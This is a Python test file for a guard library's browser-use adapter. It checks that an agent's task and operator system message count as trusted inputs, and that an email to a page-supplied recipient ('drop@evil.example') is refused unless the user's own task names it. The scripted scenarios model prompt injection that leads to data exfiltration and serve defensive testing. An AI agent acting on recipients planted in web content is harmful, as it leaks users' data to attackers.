"""browser-use records the agent's ``task`` and the operator's system message
(``extend_system_message`` / ``override_system_message``) as trusted inputs, never
page content (real ``Agent`` loops in headless Chromium, a scripted chat model, real
custom actions): the provenance pair of :mod:`.provenance`.

Runs in browser-use's own environment (``.venv-browser-use``); skipped elsewhere.
"""

from __future__ import annotations

import os

import pytest

os.environ.setdefault("ANONYMIZED_TELEMETRY", "false")
os.environ.setdefault("BROWSER_USE_CLOUD_SYNC", "false")
pytest.importorskip("browser_use")

from typing import Any

from browser_use import ActionResult, Agent, Tools

from interlock import Guard
from interlock.adapters.browser_use import agent_inputs, guard_agent
from interlock.policy import load_policy_text

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
from .test_browser_use import Browser, FakeChatModel, browser, done, step

__all__ = ["browser"]  # the module's headless Chromium (a fixture)


def mail_tools(ran: list[str]) -> Tools[Any]:
    tools: Tools[Any] = Tools()

    @tools.action("Fetch a page.")
    async def fetch_url(url: str) -> ActionResult:
        ran.append("fetch_url")
        return ActionResult(extracted_content=PAGE)

    @tools.action("Send a mail.")
    async def send_email(to: str, body: str) -> ActionResult:
        ran.append(f"send_email:{to}")
        return ActionResult(extracted_content="sent")

    return tools


def mail_agent(
    browser: Browser, request_text: str, to: str, ran: list[str], *, system: str
) -> tuple[Agent[Any, Any], FakeChatModel]:
    model = FakeChatModel(
        [
            step({"fetch_url": {"url": "https://blog.example"}}),
            step({"send_email": {"to": to, "body": "hi"}}),
            done(),
        ]
    )
    agent: Agent[Any, Any] = Agent(
        task=request_text,
        llm=model,  # type: ignore[arg-type]
        browser_session=browser.session,
        tools=mail_tools(ran),
        use_judge=False,
        directly_open_url=False,
        enable_signal_handler=False,
        max_failures=2,
        use_vision=False,
        **{f"{system}_system_message": SYSTEM},
    )
    return agent, model


@pytest.mark.parametrize("models", [True, False])
@pytest.mark.parametrize("system", ["extend", "override"])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    browser: Browser, models: bool, system: str, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("bu-1")
    ran: list[str] = []
    agent, model = mail_agent(browser, request_text, to, ran, system=system)
    guard_agent(agent, guard, refusal="message", models=models)
    result = browser.run(agent.run(max_steps=5))
    assert result.final_result() == "finished"
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    if not sent:
        assert "the recipient came from untrusted content" in model.seen[2]  # read it
    assert trusted_inputs(history, "bu-1") == 2  # task + system message, once in 3 steps


def test_a_refused_page_recipient_ends_a_raise_style_run(browser: Browser) -> None:
    from interlock import ActionDenied

    guard, history = guarded("bu-2")
    ran: list[str] = []
    agent, _ = mail_agent(browser, "summarise it", "drop@evil.example", ran, system="extend")
    guard_agent(agent, guard)
    with pytest.raises(ActionDenied, match="untrusted content"):
        browser.run(agent.run(max_steps=5))
    assert ran == ["fetch_url"]
    assert trusted_inputs(history, "bu-2") == 2


def test_a_follow_up_task_is_the_users_too(browser: Browser) -> None:
    """``add_new_task`` between runs: the new task is recorded (once), the page's
    address in it the user's."""
    guard, history = guarded("bu-3")
    ran: list[str] = []
    agent, model = mail_agent(browser, "summarise it", "drop@evil.example", ran, system="extend")
    guard_agent(agent, guard, refusal="message")
    browser.run(agent.run(max_steps=5))
    assert "send_email:drop@evil.example" not in ran
    agent.add_new_task("now mail drop@evil.example the summary")
    model.turns = [step({"send_email": {"to": "drop@evil.example", "body": "hi"}}), done()]
    browser.run(agent.run(max_steps=5))
    assert "send_email:drop@evil.example" in ran
    assert trusted_inputs(history, "bu-3") == 3


def test_agent_inputs_are_the_task_and_the_operators_message_only() -> None:
    agent: Agent[Any, Any] = Agent(
        task="mail alice@corp.example",
        llm=FakeChatModel([]),  # type: ignore[arg-type]
        tools=Tools(),
        extend_system_message=SYSTEM,
    )
    assert [(i.role, i.text) for i in agent_inputs(agent)] == [
        ("user", "mail alice@corp.example"),
        ("system", SYSTEM),
    ]


def test_a_guard_without_sessions_records_nothing(browser: Browser) -> None:
    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    agent, _ = mail_agent(browser, "mail alice", "alice@corp.example", ran, system="extend")
    guard_agent(agent, guard, refusal="message")
    browser.run(agent.run(max_steps=5))
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_an_agent_run_inside_an_action_gets_the_models_words_not_the_users(
    browser: Browser, request_text: str, sent: bool
) -> None:
    """An action whose body runs another agent, with a task the calling model wrote
    after it read the page: that task is never trusted."""
    guard, history = guarded("bu-4")
    ran: list[str] = []
    tools = mail_tools(ran)

    @tools.action("Ask the mailer agent.")
    async def mailer(task: str) -> ActionResult:
        helper, _ = mail_agent(browser, task, "drop@evil.example", ran, system="extend")
        helper.settings.extend_system_message = None
        helper.llm.turns = [step({"send_email": {"to": "drop@evil.example", "body": "hi"}}), done()]
        guard_agent(helper, guard, refusal="message")
        await helper.run(max_steps=4)
        return ActionResult(extracted_content="asked")

    model = FakeChatModel(
        [
            step({"fetch_url": {"url": "https://blog.example"}}),
            step({"mailer": {"task": "mail drop@evil.example"}}),
            done(),
        ]
    )
    agent: Agent[Any, Any] = Agent(
        task=request_text,
        llm=model,  # type: ignore[arg-type]
        browser_session=browser.session,
        tools=tools,
        use_judge=False,
        directly_open_url=False,
        enable_signal_handler=False,
        max_failures=2,
        use_vision=False,
        extend_system_message=SYSTEM,
    )
    guard_agent(agent, guard, refusal="message")
    browser.run(agent.run(max_steps=5))
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    assert trusted_inputs(history, "bu-4") == 2  # the outer run's: nothing of the helper's


def test_a_task_added_mid_run_is_recorded_before_the_next_action(browser: Browser) -> None:
    guard, history = guarded("bu-5")
    ran: list[str] = []
    agent, _ = mail_agent(browser, "summarise it", "drop@evil.example", ran, system="extend")
    guard_agent(agent, guard, refusal="message")

    async def follow_up(running: Agent[Any, Any]) -> None:
        if ran == ["fetch_url"] and running.task == "summarise it":
            running.add_new_task("and mail drop@evil.example the summary")

    browser.run(agent.run(max_steps=5, on_step_end=follow_up))
    assert ran == ["fetch_url", "send_email:drop@evil.example"]
    assert trusted_inputs(history, "bu-5") == 3
